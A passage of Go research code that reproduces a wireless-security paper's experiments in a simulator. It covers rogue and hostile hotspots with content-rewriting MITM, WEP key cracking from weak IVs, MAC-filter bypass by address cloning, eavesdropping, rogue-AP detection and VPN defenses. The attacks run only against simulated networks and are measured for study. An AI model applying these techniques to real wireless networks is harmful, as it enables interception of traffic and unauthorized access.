	pkt.Payload[off], pkt.Payload[off+1] = 0, 0
	sum := inet.PseudoHeaderSum(pkt.Src, pkt.Dst, pkt.Proto, uint16(len(pkt.Payload)))
	sum = inet.SumBytes(sum, pkt.Payload)
	cs := inet.FinishChecksum(sum)
	pkt.Payload[off], pkt.Payload[off+1] = byte(cs>>8), byte(cs)
}

func vpnCarrier(udp bool) vpn.Carrier {
	if udp {
		return vpn.CarrierUDP
	}
	return vpn.CarrierTCP
}

func phyPos(x float64) phy.Position { return phy.Position{X: x, Y: 0} }

// proxyOnce runs one body through a wired client→netsed→server relay and
// returns what the client received. Used by E2b to control exactly how the
// pattern lands on TCP segment boundaries.
func proxyOnce(body []byte, rule string, streaming bool) []byte {
	k := sim.NewKernel(1)
	var alloc ethernet.MACAllocator
	sw := ethernet.NewSwitch(k, &alloc, ethernet.SwitchConfig{})
	prefix := inet.MustParsePrefix("10.0.0.0/24")

	mk := func(name string, addr string) *tcp.Stack {
		ip := ipv4.NewStack(k, name)
		ip.AddIface("eth0", sw.Attach(alloc.Next()), inet.MustParseAddr(addr), prefix)
		return tcp.NewStack(ip)
	}
	client := mk("client", "10.0.0.1")
	gw := mk("gw", "10.0.0.254")
	server := mk("server", "10.0.0.80")

	_, err := netsed.Start(gw, netsed.Config{
		ListenPort: 10101,
		Upstream:   inet.MustParseHostPort("10.0.0.80:80"),
		Rules:      []string{rule},
		Streaming:  streaming,
	})
	if err != nil {
		panic(err)
	}
	l, err := server.Listen(80)
	if err != nil {
		panic(err)
	}
	l.OnAccept = func(c *tcp.Conn) {
		c.OnData = func(b []byte) {
			_ = c.Write(body)
			c.Close()
		}
	}
	conn, err := client.Dial(inet.MustParseHostPort("10.0.0.254:10101"))
	if err != nil {
		panic(err)
	}
	var got []byte
	conn.OnConnect = func() { _ = conn.Write([]byte("GET")) }
	conn.OnData = func(b []byte) { got = append(got, b...) }
	k.RunUntil(30 * sim.Second)
	return got
}
