package experiments

import (
	"fmt"

	"repro/internal/core"
	"repro/internal/sim"
	"repro/internal/vpn"
)

// The overlay experiments (E13–E14) evaluate the multi-hop mesh defense:
// the victim's tunnel reaches the trusted endpoint through untrusted relay
// chains instead of a point-to-point carrier. E13 puts the adversary ON the
// chain (the paper's rogue, recast as a hostile first hop); E14 measures
// how the chain heals when chaos removes pieces of it.

// overlayWorld builds the mesh world shared by both experiments: healthy
// air, the victim at a fixed position, relays and exit on the backbone.
func overlayWorld(seed uint64, faultSched string) *core.World {
	return core.NewWorld(core.Config{
		Seed: seed, VictimPos: phyPos(20),
		Overlay:      true,
		VPNKeepalive: 2 * sim.Second,
		Faults:       faultSched,
	})
}

// runOverlayDownload associates, brings the tunnel up over the mesh, runs
// the download, and leaves generous recovery room.
func runOverlayDownload(w *core.World) (up bool, res core.DownloadResult) {
	w.VictimConnect()
	w.Run(10 * sim.Second)
	w.EnableVictimVPN(nil, func(err error) { up = err == nil })
	w.Run(20 * sim.Second)
	if !up {
		return false, res
	}
	w.VictimDownload(func(r core.DownloadResult) { res = r })
	w.Run(90 * sim.Second)
	return up, res
}

// E13FirstHopRogue: the rogue-AP threat model applied to the mesh — the
// client's first-hop relay is the adversary. It forwards everything (the
// overlay cannot tell) but mangles the sealed tunnel records crossing it.
// The per-hop link MACs stay clean, because the tampering happens inside
// the relay, past its own links; only the END-TO-END record MACs catch it.
// And in both configurations the exit learns the client only as an origin
// pseudonym — never its address: relay anonymity is what makes a hostile
// hop survivable at all.
func E13FirstHopRogue(s Scale) Table {
	t := Table{
		ID:    "E13",
		Title: "Hostile first-hop relay on the mesh: e2e detection, per-hop blindness",
		Columns: []string{"first hop", "download clean", "e2e tamper detected",
			"per-hop tamper detected", "records mangled", "exit sees client as"},
		Notes: []string{
			"the hostile relay passes handshakes untouched and flips one bit inside every 3rd sealed tunnel record it forwards",
			"per-hop link MACs cannot see it (the relay re-seals its own links) — only the end-to-end record MACs can",
			"mangled records are dropped at the endpoint; the inner TCP retransmits, so the download still completes clean",
			"sessions are keyed by origin pseudonym: the exit never learns the victim's address, only the previous hop's",
		},
	}
	for _, hostile := range []bool{false, true} {
		var cleans []bool
		var e2e, perHop, mangled []float64
		var origin string
		for _, seed := range core.Seeds(13, s.trials()) {
			w := overlayWorld(seed, "")
			count := 0
			if hostile {
				w.OverlayRelay1.MangleForward = func(b []byte) []byte {
					// The relay sees carrier framing (len||type||body) in the
					// clear; a selective attacker leaves the handshake alone
					// and corrupts only sealed records.
					if len(b) > 3 && (b[2] == vpn.MsgData || b[2] == vpn.MsgKeepalive) {
						count++
						if count%3 == 0 {
							b = append([]byte(nil), b...)
							b[len(b)/2] ^= 0x40
						}
					}
					return b
				}
			}
			up, res := runOverlayDownload(w)
			cleans = append(cleans, up && res.Clean())
			e2e = append(e2e, float64(w.VPNServer.TamperDetected()+w.VictimVPN.TamperDetected()))
			perHop = append(perHop, float64(w.OverlayClient.TamperDetected()+
				w.OverlayRelay1.TamperDetected()+w.OverlayRelay2.TamperDetected()+
				w.OverlayExit.TamperDetected()))
			mangled = append(mangled, float64(count/3))
			origin = w.OverlayClient.Name()
		}
		name := "honest relay"
		if hostile {
			name = "hostile relay (mangles records)"
		}
		t.AddRow(name, pct(core.Fraction(cleans)), fmt.Sprintf("%.1f", core.Mean(e2e)),
			fmt.Sprintf("%.1f", core.Mean(perHop)), fmt.Sprintf("%.1f", core.Mean(mangled)),
			fmt.Sprintf("%q", origin))
	}
	return t
}

// E14RelayChainChaos: the mesh tunnel under the chaos schedules — a
// partitioned first hop (route withdrawal + failover to the alternate
// chain), the AP reboot from E11 (now healing across TWO layers: the
// wireless link and every overlay link on it), and the victim's own radio
// flapping. The recovery invariant is always the same: tunnel up at the
// end, download clean, and the rebuilt chain rekeys into the SAME tunnel
// address because the exit keys sessions by origin pseudonym.
func E14RelayChainChaos(s Scale) Table {
	t := Table{
		ID:    "E14",
		Title: "Mesh tunnel recovery under chaos: relay loss, AP reboot, link flaps",
		Columns: []string{"fault", "tunnel up at end", "download clean",
			"mean rekeys", "mean DPD timeouts", "mean link redials"},
		Notes: []string{
			"overlay links probe at 1 s / declare at 3 s; the end-to-end tunnel probes at 2 s / declares at 6 s",
			"relay-drop partitions the preferred first hop for 8 s: routes are withdrawn and the stream carrier is rebuilt through the surviving relay",
			"the rebuilt chain re-handshakes into the same origin-keyed session, so the tunnel address (and inner TCP) survives the failover",
			"link redials count the client node's carrier dials — the healing effort the schedule forced on the mesh",
		},
	}
	scenarios := []struct {
		name   string
		faults string
	}{
		{"none", ""},
		{"relay-drop (first hop gone 8 s)", "relay-drop"},
		{"ap-restart (3 s reboot)", "apcrash@35s+3s"},
		{"ap-restart (20 s outage)", "apcrash@35s+20s"},
		{"link-flap (radio blinks x3)", "linkflap@35s+500ms*3/5s"},
	}
	type out struct {
		up, clean               bool
		rekeys, pdeads, redials float64
	}
	type point struct {
		faults string
		seed   uint64
	}
	var points []point
	for _, sc := range scenarios {
		for _, seed := range core.Seeds(14, s.trials()) {
			points = append(points, point{sc.faults, seed})
		}
	}
	results := core.Sweep(points, func(p point) out {
		w := overlayWorld(p.seed, p.faults)
		up, res := runOverlayDownload(w)
		if !up {
			return out{}
		}
		return out{
			up: w.VictimVPN.Up(), clean: res.Clean(),
			rekeys: float64(w.VictimVPN.Rekeys), pdeads: float64(w.VictimVPN.PeerTimeouts),
			redials: float64(w.OverlayClient.LinkReconnects()),
		}
	})
	for i, sc := range scenarios {
		var ups, cleans []bool
		var rekeys, pdeads, redials []float64
		for _, r := range results[i*s.trials() : (i+1)*s.trials()] {
			ups = append(ups, r.up)
			cleans = append(cleans, r.clean)
			rekeys = append(rekeys, r.rekeys)
			pdeads = append(pdeads, r.pdeads)
			redials = append(redials, r.redials)
		}
		t.AddRow(sc.name, pct(core.Fraction(ups)), pct(core.Fraction(cleans)),
			fmt.Sprintf("%.1f", core.Mean(rekeys)), fmt.Sprintf("%.1f", core.Mean(pdeads)),
			fmt.Sprintf("%.1f", core.Mean(redials)))
	}
	return t
}
