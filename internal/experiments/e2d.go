package experiments

import (
	"repro/internal/core"
	"repro/internal/sim"
)

// E2dHostileHotspot (§1.2.2): the paper's second deployment class. No rogue
// hardware, nothing anomalous on the air — the hotspot operator IS the
// attacker, so AP-side defenses and rogue detection are definitionally
// useless, and only the client-side VPN policy survives.
func E2dHostileHotspot(s Scale) Table {
	t := Table{
		ID:    "E2d",
		Title: "Hostile hotspot (§1.2.2): the operator is the attacker",
		Columns: []string{"hotspot / victim policy", "download clean",
			"victim compromised"},
		Notes: []string{
			"the hotspot's gateway runs the same DNAT+netsed MITM as the rogue kit — but it is the legitimate gateway",
			"no rogue AP exists: §2.3's detection techniques have nothing to find",
		},
	}
	type scenario struct {
		name    string
		hostile bool
		vpn     bool
	}
	scenarios := []scenario{
		{"honest hotspot, no VPN", false, false},
		{"hostile hotspot, no VPN", true, false},
		{"hostile hotspot, full VPN home", true, true},
	}
	type point struct {
		sc   scenario
		seed uint64
	}
	var points []point
	for _, sc := range scenarios {
		for _, seed := range core.Seeds(31, s.trials()) {
			points = append(points, point{sc, seed})
		}
	}
	results := core.Sweep(points, func(p point) core.DownloadResult {
		h := core.NewHotspot(core.HotspotConfig{
			Seed: p.seed, Hostile: p.sc.hostile, VPNServer: p.sc.vpn,
		})
		h.VictimConnect()
		h.Run(10 * sim.Second)
		if p.sc.vpn {
			up := false
			h.EnableVictimVPN(func(err error) { up = err == nil })
			h.Run(20 * sim.Second)
			if !up {
				return core.DownloadResult{Err: errNoTunnel}
			}
		}
		var res core.DownloadResult
		h.VictimDownload(func(r core.DownloadResult) { res = r })
		h.Run(60 * sim.Second)
		return res
	})
	for i, sc := range scenarios {
		var clean, comp []bool
		for _, r := range results[i*s.trials() : (i+1)*s.trials()] {
			clean = append(clean, r.Clean())
			comp = append(comp, r.Compromised())
		}
		t.AddRow(sc.name, pct(core.Fraction(clean)), pct(core.Fraction(comp)))
	}
	return t
}

// errNoTunnel marks a failed tunnel bring-up in sweeps.
var errNoTunnel = errTunnel{}

type errTunnel struct{}

func (errTunnel) Error() string { return "vpn never came up" }
