// Package experiments regenerates every table/figure-equivalent of the
// paper's evaluation (see DESIGN.md's experiment index, E1–E15). Each
// function builds the relevant worlds via internal/core, sweeps parameters
// across CPU cores, and returns a formatted Table. cmd/experiments prints
// them; the repository-root benchmarks time them.
package experiments

import (
	"fmt"
	"strings"
)

// Table is one experiment's output.
type Table struct {
	ID      string
	Title   string
	Columns []string
	Rows    [][]string
	Notes   []string
}

// AddRow appends a row of stringified cells.
func (t *Table) AddRow(cells ...any) {
	row := make([]string, len(cells))
	for i, c := range cells {
		switch v := c.(type) {
		case string:
			row[i] = v
		case float64:
			row[i] = fmt.Sprintf("%.3g", v)
		default:
			row[i] = fmt.Sprint(v)
		}
	}
	t.Rows = append(t.Rows, row)
}

// String renders the table in aligned plain text.
func (t *Table) String() string {
	var b strings.Builder
	fmt.Fprintf(&b, "== %s: %s ==\n", t.ID, t.Title)
	widths := make([]int, len(t.Columns))
	for i, c := range t.Columns {
		widths[i] = len(c)
	}
	for _, r := range t.Rows {
		for i, c := range r {
			if i < len(widths) && len(c) > widths[i] {
				widths[i] = len(c)
			}
		}
	}
	line := func(cells []string) {
		for i, c := range cells {
			if i > 0 {
				b.WriteString("  ")
			}
			fmt.Fprintf(&b, "%-*s", widths[i], c)
		}
		b.WriteByte('\n')
	}
	line(t.Columns)
	sep := make([]string, len(t.Columns))
	for i := range sep {
		sep[i] = strings.Repeat("-", widths[i])
	}
	line(sep)
	for _, r := range t.Rows {
		line(r)
	}
	for _, n := range t.Notes {
		fmt.Fprintf(&b, "note: %s\n", n)
	}
	return b.String()
}

// Scale trades experiment fidelity for runtime.
type Scale struct {
	// Trials per sweep point (default 5).
	Trials int
	// Quick reduces the heaviest experiments (E4/E6) for benchmark runs.
	Quick bool
}

// DefaultScale is used by cmd/experiments.
var DefaultScale = Scale{Trials: 5}

func (s Scale) trials() int {
	if s.Trials <= 0 {
		return 5
	}
	return s.Trials
}

// pct renders a fraction as a percentage.
func pct(f float64) string { return fmt.Sprintf("%.0f%%", 100*f) }
