package experiments

import (
	"bytes"
	"fmt"

	"repro/internal/core"
	"repro/internal/sim"
	"repro/internal/wep"
)

// E2bBoundary (§4.2): "netsed will not match strings that cross packet
// boundaries". We place the pattern at controlled offsets relative to the
// TCP segment boundary and compare original (chunk) netsed against the
// boundary-safe streaming rewriter.
func E2bBoundary(s Scale) Table {
	t := Table{
		ID:    "E2b",
		Title: "netsed segment-boundary limitation and the streaming fix (§4.2)",
		Columns: []string{"pattern position vs MSS boundary",
			"chunk-mode replaced", "streaming replaced"},
		Notes: []string{
			"pattern is a 32-char MD5 digest; MSS = 1460 bytes",
			"offsets that fit entirely in one segment always match; straddling offsets only match in streaming mode",
		},
	}
	const mss = 1460
	pattern := "0123456789abcdef0123456789abcdef" // stand-in digest
	replacement := "ffffffffffffffffffffffffffffffff"
	// Offsets of the pattern start relative to the first boundary.
	cases := []struct {
		name  string
		start int
	}{
		{"well inside segment 1", mss - 400},
		{"ends exactly at boundary", mss - len(pattern)},
		{"straddles boundary by 1", mss - len(pattern) + 1},
		{"straddles boundary by 16", mss - 16},
		{"starts exactly at boundary", mss},
		{"well inside segment 2", mss + 400},
	}
	// Each (offset, mode) relay is an independent single-kernel world, so the
	// twelve runs fan out through one sweep and pair back up per row.
	type point struct {
		start     int
		streaming bool
	}
	var points []point
	for _, c := range cases {
		points = append(points, point{c.start, false}, point{c.start, true})
	}
	results := core.Sweep(points, func(p point) bool {
		body := bytes.Repeat([]byte("x"), p.start)
		body = append(body, pattern...)
		body = append(body, bytes.Repeat([]byte("y"), 600)...)
		got := proxyOnce(body, "s/"+pattern+"/"+replacement, p.streaming)
		return bytes.Contains(got, []byte(replacement))
	})
	for i, c := range cases {
		t.AddRow(c.name, yes(results[2*i]), yes(results[2*i+1]))
	}
	return t
}

func yes(b bool) string {
	if b {
		return "yes"
	}
	return "MISSED"
}

// E4FMSCrack (§2.1 / §4): Airsnort-style WEP key recovery. We count the
// weak-IV frames the cracker needs and report the implied total capture for
// a random-IV network (weak fraction = keylen·256 / 2^24).
func E4FMSCrack(s Scale) Table {
	t := Table{
		ID:      "E4",
		Title:   "FMS/Airsnort WEP key recovery cost (§4: 'retrieved the WEP key via Airsnort')",
		Columns: []string{"key", "IV policy", "weak frames used", "implied total frames", "recovered"},
		Notes: []string{
			"implied total = weak frames ÷ weak-IV fraction of random-IV traffic",
			"'weak-avoiding' is the later-firmware mitigation: FMS starves (ablation)",
		},
	}
	// Each crack is an independent CPU-bound job (no shared world), so the
	// two-or-three runs fan out through one sweep; each job returns its
	// finished row and the rows land in point order.
	type kcase struct {
		name     string
		key      wep.Key
		ablation bool
	}
	jobs := []kcase{{"40-bit", wep.Key40FromString("SECRE"), false}}
	if !s.Quick {
		jobs = append(jobs, kcase{"104-bit", wep.Key([]byte("thirteenbytes")), false})
	}
	jobs = append(jobs, kcase{"40-bit", wep.Key40FromString("SECRE"), true})
	rows := core.Sweep(jobs, func(kc kcase) []string {
		if kc.ablation {
			// Ablation: weak-avoiding IVs. The oracle derives K0 only for
			// weak IVs — Airsnort's capture filter drops strong frames
			// before any RC4 work, and the cracker never reads their K0 —
			// so a weak-avoiding network costs the attacker nothing but the
			// IV check per frame.
			c := wep.NewCracker(wep.KeySize40)
			src := &wep.WeakAvoidingIV{KeyLen: wep.KeySize40}
			for i := 0; i < 200000; i++ {
				iv := src.NextIV()
				var k0 byte
				if wep.IsWeakIV(iv, wep.KeySize40) {
					k0 = wep.FirstKeystreamByte(kc.key, iv)
				}
				c.AddSample(wep.Sample{IV: iv, K0: k0})
			}
			_, err := c.RecoverKey()
			return []string{kc.name, "weak-avoiding", fmt.Sprint(c.WeakFrames),
				"∞ (no weak IVs)", yes(err == nil)}
		}
		weakUsed, ok := fmsCost(kc.key)
		frac := float64(len(kc.key)*256) / float64(1<<24)
		implied := float64(weakUsed) / frac
		return []string{kc.name, "sequential/random", fmt.Sprint(weakUsed),
			fmt.Sprintf("%.2g", implied), yes(ok)}
	})
	t.Rows = append(t.Rows, rows...)
	return t
}

// fmsCost feeds weak IVs in random order until the key recovers, returning
// the number of weak frames consumed.
func fmsCost(key wep.Key) (int, bool) {
	c := wep.NewCracker(len(key))
	ref := wep.Seal(key, wep.IV{200, 1, 1}, 0, []byte("verification frame"))
	c.Verify = func(k wep.Key) bool {
		_, err := wep.Open(k, ref)
		return err == nil
	}
	rng := sim.NewRNG(4)
	// Random order over the weak-IV space, possibly with repeats — like
	// sniffing a random-IV network, but skipping the strong frames.
	used := 0
	for used < len(key)*256*4 {
		for i := 0; i < 64; i++ {
			b := rng.Intn(len(key))
			iv := wep.IV{byte(b + 3), 255, byte(rng.Intn(256))}
			c.AddSample(wep.Sample{IV: iv, K0: wep.FirstKeystreamByte(key, iv)})
			used++
		}
		if got, err := c.RecoverKey(); err == nil && bytes.Equal(got, key) {
			return used, true
		}
	}
	return used, false
}

// E6TCPoverTCP (§5.3): the PPP-over-SSH drawback — a TCP-carried tunnel
// under wireless loss versus a UDP carrier. We push the victim toward the
// edge of the cell and download a file through each tunnel.
func E6TCPoverTCP(s Scale) Table {
	t := Table{
		ID:    "E6",
		Title: "VPN carrier under wireless loss: TCP-in-TCP vs UDP (§5.3)",
		Columns: []string{"victim distance (m)", "carrier", "download time (s)",
			"goodput (kB/s)", "outer TCP retransmits"},
		Notes: []string{
			"the paper's PPP-over-SSH is the TCP carrier; 'any UDP traffic is subject to unnecessary retransmission by TCP'",
			"at the cell edge the stacked retransmission loops of TCP-in-TCP collapse goodput",
		},
	}
	const fileSize = 150_000
	distances := []float64{20, 86, 90}
	if s.Quick {
		distances = []float64{20, 90}
	}
	type point struct {
		dist float64
		udp  bool
		seed uint64
	}
	var points []point
	for _, d := range distances {
		for _, udp := range []bool{false, true} {
			for _, seed := range core.Seeds(uint64(d)*7, s.trials()) {
				points = append(points, point{d, udp, seed})
			}
		}
	}
	type out struct {
		stage   string // "no-assoc", "no-tunnel", "stalled", "ok"
		seconds float64
		retx    uint64
	}
	results := core.Sweep(points, func(p point) out {
		carrier := vpnCarrier(p.udp)
		cfg := core.Config{
			Seed: p.seed, VPNServer: true, VPNCarrier: carrier,
			VictimPos:        phyPos(p.dist),
			ShadowingSigmaDB: 3,
			FileContents:     bytes.Repeat([]byte("payload-"), fileSize/8),
		}
		w := core.NewWorld(cfg)
		w.VictimConnect()
		w.Run(15 * sim.Second)
		if !w.VictimAssociated() {
			return out{stage: "no-assoc"}
		}
		up := false
		w.EnableVictimVPN(nil, func(err error) { up = err == nil })
		w.Run(30 * sim.Second)
		if !up {
			return out{stage: "no-tunnel"}
		}
		start := w.Kernel.Now()
		var res core.DownloadResult
		var doneAt sim.Time
		done := false
		w.VictimDownload(func(r core.DownloadResult) { res = r; done = true; doneAt = w.Kernel.Now() })
		w.Run(4 * sim.Minute)
		if !done || res.Err != nil || !res.Clean() {
			return out{stage: "stalled", retx: w.Victim.TCP.Retransmits}
		}
		return out{stage: "ok", seconds: (doneAt - start).Seconds(), retx: w.Victim.TCP.Retransmits}
	})
	i := 0
	for _, d := range distances {
		for _, udp := range []bool{false, true} {
			var times []float64
			var retx uint64
			stalled := 0
			for n := 0; n < s.trials(); n++ {
				r := results[i]
				i++
				switch r.stage {
				case "ok":
					times = append(times, r.seconds)
					retx += r.retx
				case "stalled":
					stalled++
					retx += r.retx
				}
			}
			carrier := "TCP (PPP/SSH)"
			if udp {
				carrier = "UDP"
			}
			if len(times) == 0 {
				t.AddRow(d, carrier, fmt.Sprintf("stalled (%d/%d)", stalled, s.trials()), "-", retx)
				continue
			}
			mean := core.Mean(times)
			label := fmt.Sprintf("%.2f", mean)
			if stalled > 0 {
				label += fmt.Sprintf(" (+%d stalled)", stalled)
			}
			goodput := float64(fileSize) / mean / 1000
			t.AddRow(d, carrier, label, fmt.Sprintf("%.1f", goodput), retx)
		}
	}
	return t
}
