package experiments

import (
	"bytes"
	"fmt"

	"repro/internal/core"
	"repro/internal/detect"
	"repro/internal/dot11"
	"repro/internal/ethernet"
	"repro/internal/httpx"
	"repro/internal/phy"
	"repro/internal/sim"
	"repro/internal/vpn"
	"repro/internal/wep"
)

// E5MACFilterBypass (§2.1): MAC ACLs stop an attacker's own MAC but not a
// sniffed-and-cloned one — "keeping honest people honest".
func E5MACFilterBypass(s Scale) Table {
	t := Table{
		ID:      "E5",
		Title:   "MAC filtering bypass via harvested addresses (§2.1)",
		Columns: []string{"attacker MAC", "association success"},
	}
	type point struct {
		seed  uint64
		clone bool
	}
	var points []point
	for _, seed := range core.Seeds(5, s.trials()) {
		points = append(points, point{seed, false}, point{seed, true})
	}
	results := core.Sweep(points, func(p point) bool {
		k := sim.NewKernel(p.seed)
		m := phy.NewMedium(k, phy.Config{})
		victimMAC := core.VictimMAC
		dot11.NewAP(k, m.AddRadio(phy.RadioConfig{Name: "ap", Pos: phyPos(0), Channel: 1}),
			dot11.APConfig{SSID: "CORP", BSSID: core.CorpBSSID, Channel: 1,
				MACAllow: []ethernet.MAC{victimMAC}})
		mac := ethernet.MustParseMAC("02:00:00:00:66:01")
		if p.clone {
			mac = victimMAC
		}
		sta := dot11.NewSTA(k, m.AddRadio(phy.RadioConfig{Name: "atk", Pos: phyPos(10), Channel: 1}),
			dot11.STAConfig{MAC: mac, SSID: "CORP", DisableReconnect: true})
		sta.Connect()
		k.RunUntil(10 * sim.Second)
		return sta.State() == dot11.StateAssociated
	})
	var own, cloned []bool
	for i, p := range points {
		if p.clone {
			cloned = append(cloned, results[i])
		} else {
			own = append(own, results[i])
		}
	}
	t.AddRow("attacker's own (unlisted)", pct(core.Fraction(own)))
	t.AddRow("harvested victim MAC (cloned)", pct(core.Fraction(cloned)))
	return t
}

// E7Detection (§2.3): how fast a monitoring sensor notices the rogue, by
// detection technique, versus the rogue's BSSID strategy.
func E7Detection(s Scale) Table {
	t := Table{
		ID:    "E7",
		Title: "Rogue-AP detection via 802.11 monitoring (§2.3)",
		Columns: []string{"rogue BSSID", "victim traffic", "detected",
			"mean latency (s)", "first alert"},
		Notes: []string{
			"sensor: one channel-hopping rfmon radio (200 ms dwell) running sequence-control and beacon-fingerprint analysis",
			"same-BSSID rogues are caught by interleaved sequence counters and conflicting beacons; distinct-BSSID rogues beacon legitimately and evade these checks",
			"the wired-side aid §2.3 mentions is also implemented: detect.Arpwatch flags the rogue's upstream ARP flip-flops (see its tests)",
		},
	}
	type scenario struct {
		name  string
		clone bool
		busy  bool
	}
	scenarios := []scenario{
		{"cloned (Fig. 1)", true, false},
		{"cloned (Fig. 1)", true, true},
		{"distinct", false, false},
	}
	type out struct {
		detected bool
		latency  float64
		kind     string
	}
	type point struct {
		sc   scenario
		seed uint64
	}
	var points []point
	for _, sc := range scenarios {
		for _, seed := range core.Seeds(7, s.trials()) {
			points = append(points, point{sc, seed})
		}
	}
	results := core.Sweep(points, func(p point) out {
		sc := p.sc
		cfg := core.Config{
			Seed: p.seed, Rogue: true, RogueCloneBSSID: sc.clone, RoguePureRelay: true,
			APPos: phyPos(0), VictimPos: phyPos(40), RoguePos: phyPos(42),
		}
		w := core.NewWorld(cfg)
		monRadio := w.Medium.AddRadio(phy.RadioConfig{Name: "sensor", Pos: phyPos(20), Channel: 1})
		mon := dot11.NewMonitor(monRadio)
		d := detect.New(w.Kernel, detect.Config{})
		d.Attach(mon)
		detect.NewHopper(w.Kernel, mon, 200*sim.Millisecond)
		start := w.Kernel.Now()
		w.VictimConnect()
		if sc.busy {
			// Keep the victim downloading through the rogue.
			var loop func()
			loop = func() {
				w.VictimDownload(func(core.DownloadResult) {
					w.Kernel.ScheduleAfter(sim.Second, loop)
				})
			}
			w.Kernel.ScheduleAfter(12*sim.Second, loop)
		}
		w.Run(60 * sim.Second)
		if len(d.Alerts) == 0 {
			return out{}
		}
		a := d.Alerts[0]
		return out{detected: true, latency: (a.At - start).Seconds(), kind: a.Kind.String()}
	})
	for i, sc := range scenarios {
		var det []bool
		var lats []float64
		kind := "-"
		for _, r := range results[i*s.trials() : (i+1)*s.trials()] {
			det = append(det, r.detected)
			if r.detected {
				lats = append(lats, r.latency)
				kind = r.kind
			}
		}
		traffic := "idle"
		if sc.busy {
			traffic = "downloading"
		}
		lat := "-"
		if len(lats) > 0 {
			lat = fmt.Sprintf("%.1f", core.Mean(lats))
		}
		t.AddRow(sc.name, traffic, pct(core.Fraction(det)), lat, kind)
	}
	return t
}

// E8Eavesdrop (§1.1): the eavesdropping asymmetry. A wireless sniffer in
// range sees the victim's web traffic; a sniffer on a switched wired port
// sees none of it; a shared hub (the pre-switch worst case) leaks it all.
func E8Eavesdrop(s Scale) Table {
	t := Table{
		ID:    "E8",
		Title: "Eavesdropping: wireless broadcast vs switched wire (§1.1)",
		Columns: []string{"sniffer location", "victim frames/bytes captured",
			"downloaded file recoverable from capture"},
		Notes: []string{
			"victim fetches the download page+file over the real AP; sniffers are passive",
			"wired sniffer sits on its own switch port in promiscuous mode — the switch simply never sends it the flow",
			"a hub-based wired LAN would leak like the wireless side (see ethernet.Hub tests)",
		},
	}
	secret := []byte("EAVESDROP-ME :: this file body is the sniffer's target\n")
	recovered := func(capture []byte) string {
		return yes(bytes.Contains(capture, secret))
	}
	// The open-cell and WEP-cell captures are independent worlds, so both run
	// through one sweep; each job returns its finished rows (plus any warning
	// note), spliced back in point order.
	type capture struct {
		rows  [][]string
		notes []string
	}
	results := core.Sweep([]bool{false, true}, func(wepCell bool) capture {
		if !wepCell {
			cfg := core.Config{Seed: 11, APPos: phyPos(0), VictimPos: phyPos(20), FileContents: secret}
			w := core.NewWorld(cfg)

			// Wireless sniffer near the AP: it records every data payload it hears.
			monRadio := w.Medium.AddRadio(phy.RadioConfig{Name: "sniffer", Pos: phyPos(10), Channel: 1})
			mon := dot11.NewMonitor(monRadio)
			var airCapture []byte
			var airFrames uint64
			mon.OnFrame = func(f dot11.Frame, info phy.RxInfo) {
				if f.Type == dot11.TypeData && (f.Addr2 == core.VictimMAC || f.Addr1 == core.VictimMAC) {
					airFrames++
					airCapture = append(airCapture, f.Body...)
				}
			}
			// Wired sniffer on its own corp-switch port.
			wiredPort := w.CorpSwitch.Attach(w.Alloc.Next())
			wiredPort.SetPromiscuous(true)
			var wireCapture []byte
			var wireFrames uint64
			wiredPort.SetReceiver(func(f ethernet.Frame) {
				if f.Type == ethernet.TypeIPv4 {
					wireFrames++
					wireCapture = append(wireCapture, f.Payload...)
				}
			})

			w.VictimConnect()
			w.Run(10 * sim.Second)
			var res core.DownloadResult
			w.VictimDownload(func(r core.DownloadResult) { res = r })
			w.Run(30 * sim.Second)
			var c capture
			if res.Err != nil {
				c.notes = append(c.notes, "WARNING: victim download failed: "+res.Err.Error())
			}
			c.rows = append(c.rows,
				[]string{"wireless monitor, 10 m from AP",
					fmt.Sprintf("%d / %d", airFrames, len(airCapture)), recovered(airCapture)},
				[]string{"switched wired port (promiscuous)",
					fmt.Sprintf("%d / %d", wireFrames, len(wireCapture)), recovered(wireCapture)})
			return c
		}
		// WEP variant: passive capture of an encrypted cell, read back without
		// and with the (Airsnort-recoverable) key.
		key := wep.Key40FromString("SECRET")
		w2 := core.NewWorld(core.Config{Seed: 12, APPos: phyPos(0), VictimPos: phyPos(20),
			WEPKey: key, FileContents: secret})
		mon2 := dot11.NewMonitor(w2.Medium.AddRadio(phy.RadioConfig{Name: "sniffer2", Pos: phyPos(10), Channel: 1}))
		var sealedBodies [][]byte
		mon2.OnFrame = func(f dot11.Frame, info phy.RxInfo) {
			if f.Type == dot11.TypeData && f.Protected {
				sealedBodies = append(sealedBodies, append([]byte(nil), f.Body...))
			}
		}
		w2.VictimConnect()
		w2.Run(10 * sim.Second)
		w2.VictimDownload(func(core.DownloadResult) {})
		w2.Run(30 * sim.Second)
		var rawCat, decCat []byte
		for _, b := range sealedBodies {
			rawCat = append(rawCat, b...)
			if plain, err := wep.Open(key, b); err == nil {
				decCat = append(decCat, plain...)
			}
		}
		var c capture
		c.rows = append(c.rows,
			[]string{"wireless monitor, WEP cell, no key",
				fmt.Sprintf("%d / %d", len(sealedBodies), len(rawCat)), recovered(rawCat)},
			[]string{"wireless monitor, WEP cell, cracked key",
				fmt.Sprintf("%d / %d", len(sealedBodies), len(decCat)), recovered(decCat)})
		return c
	})
	for _, r := range results {
		t.Rows = append(t.Rows, r.rows...)
		t.Notes = append(t.Notes, r.notes...)
	}
	t.Notes = append(t.Notes,
		"WEP stops a passive outsider only until the key is recovered (E4); a key-holding rogue was never stopped (E2)")
	return t
}

// E9Overhead (§5): the cost of the defense on a healthy network — plain vs
// WEP vs full-tunnel VPN (both carriers).
func E9Overhead(s Scale) Table {
	t := Table{
		ID:      "E9",
		Title:   "End-to-end cost of each protection level (healthy network)",
		Columns: []string{"configuration", "download time (s)", "goodput (kB/s)", "relative"},
		Notes: []string{
			"350 kB download over the real AP at 11 Mb/s; mean of trials",
			"the VPN's modest constant cost is the paper's asking price for immunity to everything in E2",
		},
	}
	type scenario struct {
		name    string
		key     wep.Key
		vpn     bool
		carrier vpn.Carrier
	}
	scenarios := []scenario{
		{"open, no VPN", nil, false, vpn.CarrierTCP},
		{"WEP", wep.Key40FromString("SECRET"), false, vpn.CarrierTCP},
		{"VPN over TCP (PPP/SSH)", nil, true, vpn.CarrierTCP},
		{"VPN over UDP", nil, true, vpn.CarrierUDP},
	}
	file := make([]byte, 350_000)
	for i := range file {
		file[i] = byte(i)
	}
	type point struct {
		sc   scenario
		seed uint64
	}
	var points []point
	for _, sc := range scenarios {
		for _, seed := range core.Seeds(9, s.trials()) {
			points = append(points, point{sc, seed})
		}
	}
	results := core.Sweep(points, func(p point) float64 {
		sc := p.sc
